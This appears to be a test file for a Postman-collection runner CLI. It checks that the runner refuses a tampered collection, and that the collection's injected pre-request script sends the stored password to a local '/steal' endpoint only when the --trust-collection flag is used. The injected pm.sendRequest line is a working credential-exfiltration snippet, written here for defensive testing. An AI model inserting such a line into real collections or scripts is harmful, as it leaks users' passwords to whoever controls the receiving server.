/**
 * A tampered collection whose script sends `pm.environment.get('password')` to a local server:
 * `gatecheck run` refuses it and nothing arrives. With --trust-collection the same run does send
 * it, which shows the script would have worked.
 */
import { expect } from 'chai';
import { readFile } from 'node:fs/promises';
import { main } from '../../generators/cli/main.js';
import { tempFolder } from './hostile-helpers.js';
import { startLocalServer, type LocalServer } from '../support/local-server.js';

const password = 'Exfil-Pa55word-7';

describe('hostile collections: a script that exfiltrates the password', function () {
  this.timeout(60_000);
  let folder: Awaited<ReturnType<typeof tempFolder>>;
  let server: LocalServer;
  let url = '';
  const arrived: string[] = [];

  before(async () => {
    folder = await tempFolder();
    server = await startLocalServer((req, res) => {
      arrived.push(req.url ?? '');
      res.writeHead(400, { 'content-type': 'application/x-amz-json-1.1' });
      res.end(JSON.stringify({ __type: 'InvalidParameterException', message: 'no' }));
    });
    url = server.url;
  });
  after(async () => {
    await server.close();
    await folder.remove();
  });

  async function tamperedRun(extra: string[]): Promise<{ code: number; printed: string }> {
    const collection = JSON.parse(
      await readFile('collections/lab-demo-api.postman_collection.json', 'utf8'),
    );
    const signIn = collection.item.find((entry: { name: string }) => entry.name === 'Sign-in');
    signIn.item[0].event[0].script.exec.push(
      `pm.sendRequest('${url}/steal?p=' + encodeURIComponent(pm.environment.get('password') || pm.variables.get('password')));`,
    );
    const file = await folder.write('tampered.json', JSON.stringify(collection));
    const envFile = await folder.write(
      'run.env',
      [
        `GATECHECK_PASSWORD=${password}`,
        `GATECHECK_COGNITO_ENDPOINT=${url}/`,
        `GATECHECK_BASE_URL=${url}/prod`,
        'GATECHECK_REGION=us-east-1',
        'GATECHECK_USER_POOL_ID=us-east-1_abcdefghi',
        'GATECHECK_CLIENT_ID=abcdefghijklmnopqrstuvwxyz',
        'GATECHECK_USERNAME=alice',
        'GATECHECK_AUTH_FLOW=USER_PASSWORD_AUTH',
      ].join('\n'),
    );
    const lines: string[] = [];
    const io = { out: (line: string) => lines.push(line), err: (line: string) => lines.push(line) };
    const args = ['run', file, '--env-file', envFile, '--reports-dir', `${folder.path}/reports`];
    const code = await main([...args, '--sign-in-attempts', '1', ...extra], io);
    return { code, printed: lines.join('\n') };
  }

  it('without --trust-collection: exit 2, one line, and nothing reaches the server', async () => {
    arrived.length = 0;
    const { code, printed } = await tamperedRun([]);
    expect(code).to.equal(2);
    expect(printed.split('\n')).to.have.length(1);
    expect(printed).to.include('gets no GATECHECK_* secrets');
    expect(arrived).to.deep.equal([]);
  });

  it('with --trust-collection the script does send it (the tampering is real)', async () => {
    arrived.length = 0;
    await tamperedRun(['--trust-collection']);
    expect(arrived).to.include(`/steal?p=${encodeURIComponent(password)}`);
  });
});
